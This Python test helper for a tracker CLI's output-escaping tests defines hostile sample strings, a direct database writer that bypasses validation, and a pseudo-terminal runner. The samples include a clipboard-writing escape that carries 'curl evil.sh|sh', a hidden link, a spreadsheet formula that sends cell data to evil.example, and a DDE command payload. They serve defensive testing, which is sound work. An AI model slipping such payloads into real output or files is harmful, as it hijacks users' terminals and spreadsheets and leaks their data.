"""Hostile text for the output tests (issue 13): terminal escapes, markup, formulas, control
characters, and a way to store them as rows written before entry validation refused them."""

from __future__ import annotations

import os
import pty
import subprocess
import sys
from datetime import UTC, date, datetime
from pathlib import Path

from sqlalchemy import select

from tracker.storage.db import Database
from tracker.storage.tables import Account, FilingEventRow

ROOT = Path(__file__).resolve().parents[2]
CLEAR = "\x1b[2J\x1b[H"                                  # clear the screen
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"        # OSC 52: write the clipboard
LINK = "\x1b]8;;https://evil.example/\x1b\\点这里\x1b]8;;\x1b\\"  # OSC 8: a hidden link
C1_CSI = "\x9b2J"                                        # 8-bit CSI
MARKUP = "[/x]坏名"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"点击查看")'
DDE = "+cmd|' /C calc'!A0"


def store_before_the_fix(db: Database, account: str, effective: date = date(2026, 7, 1), **fields: str) -> None:
    """File an update of `account` to these field values, effective `effective`, and set its current
    state: rows as they were stored before entry validation refused such values (written
    straight into the tables, past today's validation)."""
    with db.write() as session:
        session.add(FilingEventRow(account=account, kind="update", effective_on=effective,
                                   recorded_at=datetime.now(UTC), by="before-the-fix", payload=fields))
        row = session.execute(select(Account).where(Account.account == account)).scalar_one()
        for name, value in fields.items():
            setattr(row, name, value)


def run_in_pty(db_url: str, *args: str, env: dict[str, str] | None = None) -> tuple[bytes, bytes, int]:
    """`tracker --db URL ARGS…` with its stdout on a pseudo-terminal, as a user sees it; stderr on a
    pipe. Returns (what the terminal received, stderr, exit status)."""
    master, slave = pty.openpty()
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "200", **(env or {})}
    environment.pop("TRACKER_LANG", None)
    child = subprocess.Popen([sys.executable, "-m", "tracker.cli.main", "--db", db_url, *args], stdout=slave,
                             stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, env=environment, cwd=ROOT)
    os.close(slave)
    received = bytearray()
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        received += chunk
    os.close(master)
    stderr = child.stderr.read() if child.stderr else b""
    return bytes(received), stderr, child.wait(timeout=120)


def terminal_controls(output: bytes) -> list[str]:
    """Characters in `output` that a terminal acts on (other than line breaks)."""
    text = output.decode("utf-8", "replace")
    return sorted({char for char in text if (ord(char) < 0x20 and char not in "\r\n") or 0x7F <= ord(char) <= 0x9F
                   or char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"})
